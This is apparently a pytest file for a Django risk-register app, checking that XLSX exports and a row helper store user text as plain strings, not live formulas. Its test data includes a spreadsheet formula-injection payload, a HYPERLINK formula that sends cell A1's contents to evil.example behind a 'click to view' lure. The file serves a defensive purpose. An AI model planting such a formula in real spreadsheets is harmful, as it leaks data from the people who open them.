"""Exports write users' text as text: nothing a user typed becomes a live formula."""

from io import BytesIO
from zipfile import ZipFile

from django.urls import reverse
from openpyxl import Workbook, load_workbook

from riskpoints.xlsx import append_data_row
from tests.factories import RiskPointFactory

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "=1+1", "+1+1", "-2+3", "@SUM(A1:A2)"]


def test_register_export_writes_formula_like_text_as_text(people, bureau, client_for):
    RiskPointFactory(unit=bureau.a, title=FORMULAS[0], description=FORMULAS[1], level_reason=FORMULAS[2])
    RiskPointFactory(unit=bureau.a, title=FORMULAS[3], description=FORMULAS[4] + "\x0b控制字符")
    response = client_for(people.office).get(reverse("riskpoints:export"))
    assert response.status_code == 200
    with ZipFile(BytesIO(response.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    ws = load_workbook(BytesIO(response.content)).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert set(FORMULAS[:4]) <= texts and FORMULAS[4] + "控制字符" in texts
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@")
    header = [c.value for c in ws[1]]
    year = [c.value for c in next(ws.iter_rows(min_row=2, max_row=2))][header.index("年度")]
    assert isinstance(year, int)


def test_import_template_and_any_sheet_use_the_text_helper():
    wb = Workbook()
    append_data_row(wb.active, ["=1+1", 3, None, "普通文字"])
    out = BytesIO()
    wb.save(out)
    row = next(load_workbook(BytesIO(out.getvalue())).active.iter_rows())
    assert [(c.value, c.data_type) for c in row] == [("=1+1", "s"), (3, "n"), (None, "n"), ("普通文字", "s")]
